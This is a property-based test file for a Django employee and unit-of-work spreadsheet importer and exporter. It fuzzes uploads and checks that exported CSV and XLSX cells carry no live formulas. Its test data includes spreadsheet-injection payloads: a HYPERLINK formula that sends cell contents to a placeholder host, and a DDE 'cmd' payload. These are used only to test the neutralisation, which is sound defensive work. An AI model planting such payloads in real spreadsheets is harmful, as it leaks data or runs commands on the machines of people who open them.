"""Property tests for the unit and employee importer and the exporter (issue #9, fuzzing).

Whatever the upload (random bytes, a damaged workbook, the wrong encoding, a 1 MB cell, a cell
that a spreadsheet would run as a formula), the importer answers with a result: either the
import is written whole, or nothing is written and every problem names its row and column
(or the file as a whole). Exports of what was imported never hand a spreadsheet a formula, and
import back unchanged. Bounded and derandomised: the same examples on every run.
"""

import csv
import io

import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from kinerja.core.spreadsheet import FORMULA_START, csv_cell
from kinerja.org import exporter, impor
from tests.org.spreadsheets import (
    PEGAWAI_HEADER,
    csv_of,
    damaged,
    good_rows,
    run,
    stored_counts,
    xlsx_of,
)
from tests.properties import bounded

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t=", "\r=", "'=", "'+", "'@")
ENCODINGS = ("utf-8", "utf-8-sig", "latin-1", "cp1252", "utf-16", "utf-16-le", "utf-16-be")
BIG = 1024 * 1024


def import_all_or_nothing(content: bytes, name: str, agency, jenis=impor.PEGAWAI):
    """Import and check the contract: written whole, or nothing written and every problem
    placed by row and column; returns the result."""
    before = stored_counts()
    result = run(content, agency, name=name, jenis=jenis)
    after = stored_counts()
    if result.kesalahan:
        assert not result.disimpan
        assert after == before, "a refused import wrote rows"
    else:
        assert result.disimpan
        assert after[0] - before[0] == (result.dibuat if jenis == impor.PEGAWAI else 0)
        assert after[3] == before[3] + 1, "one audit entry per import"
    layout = impor.LAYOUTS[jenis]
    for error in result.kesalahan:
        assert error.pesan.strip()
        assert error.baris is None or error.baris >= 1
        for kolom in filter(None, (k.strip() for k in error.kolom.split(","))):
            assert kolom in layout.nama_kolom or kolom.startswith("ke-") or error.baris == 1, error
        assert len(str(error)) < 2000, f"message of {len(str(error))} characters"
    return result


# --- anything at all -----------------------------------------------------------------------


@bounded(60)
@given(
    content=st.one_of(
        st.binary(max_size=3000),
        st.binary(max_size=3000).map(lambda b: impor.XLSX_SIGNATURE + b),
        st.text(max_size=2000).map(str.encode),
    ),
    name=st.sampled_from(["pegawai.csv", "pegawai.xlsx", "unit.csv", "unit.xlsx", "x.txt"]),
)
@example(content=b"nip,nama\n" + b'"' + b"x" * 200_000, name="pegawai.csv")
@example(content=b"\x00" * 10, name="pegawai.csv")
def test_random_bytes_are_answered_never_raised(instansi, content, name):
    jenis = impor.UNIT if name.startswith("unit") else impor.PEGAWAI
    import_all_or_nothing(content, name, instansi, jenis)


@bounded(25)
@given(
    part=st.sampled_from(
        [
            "xl/worksheets/sheet1.xml",
            "xl/workbook.xml",
            "xl/styles.xml",
            "[Content_Types].xml",
            "xl/_rels/workbook.xml.rels",
            "docProps/app.xml",
        ]
    ),  # fmt: skip
    content=st.one_of(
        st.binary(max_size=500),
        st.just(b'<?xml version="1.0"?><worksheet><sheetData><row r="x"><c r="A1" t="s">'),
        st.just(b'<?xml version="1.0"?><worksheet><sheetData><row><c t="n"><v>x</v></c>'),
    ),
)
def test_a_damaged_workbook_is_refused_with_one_message(instansi, part, content):
    workbook = damaged(xlsx_of(good_rows()), part, content)
    result = import_all_or_nothing(workbook, "pegawai.xlsx", instansi)
    if result.kesalahan:
        assert any(e.baris is None or e.kolom for e in result.kesalahan)


# --- encodings -----------------------------------------------------------------------------

accented_name = st.builds(
    lambda a, c, b: f"{a}{c}{b}".strip() or "Ani",
    st.text("abcdefghijklmnoprstuwy ", min_size=1, max_size=12),
    st.sampled_from("éèñüçãÉÑÜöß"),
    st.text("abcdefghijklmnoprstuwy ", max_size=12),
)


@bounded(40)
@given(encoding=st.sampled_from(ENCODINGS), nama=accented_name)
def test_only_utf8_is_read_and_other_encodings_are_refused_by_name(instansi, encoding, nama):
    rows = good_rows()
    rows[2][PEGAWAI_HEADER.index("nama")] = nama
    text = "\r\n".join(",".join(row) for row in rows)
    result = import_all_or_nothing(text.encode(encoding), "pegawai.csv", instansi)
    if encoding.startswith("utf-8"):
        assert not result.kesalahan, result.kesalahan
    else:
        assert result.kesalahan and "UTF-8" in result.kesalahan[0].pesan
        if not encoding.startswith("utf-16"):
            assert result.kesalahan[0].baris == 3, "the line with the first non-UTF-8 byte"


# --- huge cells ----------------------------------------------------------------------------


@bounded(12)
@given(
    column=st.sampled_from(PEGAWAI_HEADER),
    filler=st.sampled_from(["x", "9", "=", " ", "é"]),
    fmt=st.sampled_from(["csv", "xlsx"]),
)
@example(column="nama", filler="x", fmt="csv")
def test_a_one_megabyte_cell_is_refused_on_its_row_and_column(instansi, column, filler, fmt):
    rows = good_rows()
    rows[1][PEGAWAI_HEADER.index(column)] = "A" + filler * BIG + "Z"
    content = csv_of(rows) if fmt == "csv" else xlsx_of(rows)
    result = import_all_or_nothing(content, f"pegawai.{fmt}", instansi)
    assert [(e.baris, e.kolom) for e in result.kesalahan][:1] == [(2, column)], result.kesalahan


# --- formulas ------------------------------------------------------------------------------


def exported_cells(kind: str, agency) -> tuple[list[list[str]], list]:
    """The CSV export parsed back, and the cells of the XLSX export."""
    text = "".join(exporter.csv_chunks(kind, agency.pk))
    assert text.startswith("\ufeff")
    csv_rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    stream = io.BytesIO()
    exporter.write_xlsx(kind, agency.pk, stream)
    sheet = load_workbook(io.BytesIO(stream.getvalue())).worksheets[0]
    return csv_rows, [cell for row in sheet.iter_rows() for cell in row]


formula_text = st.builds(
    lambda prefix, rest: prefix + rest,
    st.sampled_from(FORMULA_PREFIXES),
    st.sampled_from(
        ['HYPERLINK("http://x.example/?"&A1,"klik")', "1+1", "SUM(A1:A9)", "cmd|'/c calc'!A0",
         "62 812 3456"]
    ),
)  # fmt: skip


@bounded(30)
@given(
    nama=formula_text,
    gelar=st.one_of(st.just(""), formula_text.map(lambda t: t[:40])),
    jabatan=formula_text,
    fmt=st.sampled_from(["csv", "xlsx"]),
)
def test_formula_cells_are_data_and_their_export_is_neutralised(
    instansi,
    nama,
    gelar,
    jabatan,
    fmt,
):
    rows = good_rows()
    row = rows[2]
    row[PEGAWAI_HEADER.index("nama")] = nama
    row[PEGAWAI_HEADER.index("gelar_belakang")] = gelar
    row[PEGAWAI_HEADER.index("jabatan")] = jabatan
    content = csv_of(rows) if fmt == "csv" else xlsx_of(rows)
    result = import_all_or_nothing(content, f"pegawai.{fmt}", instansi)
    assert not result.kesalahan, result.kesalahan
    csv_rows, xlsx_cells = exported_cells(impor.PEGAWAI, instansi)
    for csv_row in csv_rows:
        for value in csv_row:
            assert not value.startswith(FORMULA_START), value
    for cell in xlsx_cells:
        assert cell.data_type != "f", cell.value
    # The export imported back changes nothing, in either format.
    for name, content in (
        ("pegawai.csv", "".join(exporter.csv_chunks(impor.PEGAWAI, instansi.pk)).encode()),
        ("pegawai.xlsx", _xlsx_export(impor.PEGAWAI, instansi)),
    ):
        again = import_all_or_nothing(content, name, instansi)
        assert (again.dibuat, again.diubah) == (0, 0), (name, again.kesalahan)


def _xlsx_export(kind, agency) -> bytes:
    stream = io.BytesIO()
    exporter.write_xlsx(kind, agency.pk, stream)
    return stream.getvalue()


@bounded(40)
@given(nama=st.text(min_size=1, max_size=200).filter(lambda t: t.strip() == t and t))
@example(nama="'=1+1")
@example(nama="'+62 812")
@example(nama="=1+1")
def test_any_stored_unit_name_is_exported_without_a_formula_and_imports_back_unchanged(
    instansi,
    nama,
):
    from django.db import connection

    from kinerja.org.models import UnitKerja

    # A name PostgreSQL cannot store (text never holds NUL) is no stored name.
    assume(connection.vendor != "postgresql" or "\x00" not in nama)
    UnitKerja.objects.filter(instansi=instansi, kode="DINKES").update(nama=nama)
    csv_rows, xlsx_cells = exported_cells(impor.UNIT, instansi)
    for value in (v for row in csv_rows for v in row):
        assert not value.startswith(FORMULA_START), value
    assert all(cell.data_type != "f" for cell in xlsx_cells)
    for name, content in (
        ("unit.csv", "".join(exporter.csv_chunks(impor.UNIT, instansi.pk)).encode()),
        ("unit.xlsx", _xlsx_export(impor.UNIT, instansi)),
    ):
        again = import_all_or_nothing(content, name, instansi, impor.UNIT)
        # XLSX drops control characters, and XML reads a carriage return back as a line feed.
        readable = not ILLEGAL_CHARACTERS_RE.search(nama) and not {"\x00", "\r"} & set(nama)
        if not again.kesalahan and (name == "unit.csv" or readable):
            assert (again.dibuat, again.diubah) == (0, 0), (name, nama)
            assert UnitKerja.objects.get(instansi=instansi, kode="DINKES").nama == nama


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_neutralise_leaves_no_formula_start(prefix):
    assert not csv_cell(prefix + "1").startswith(FORMULA_START)
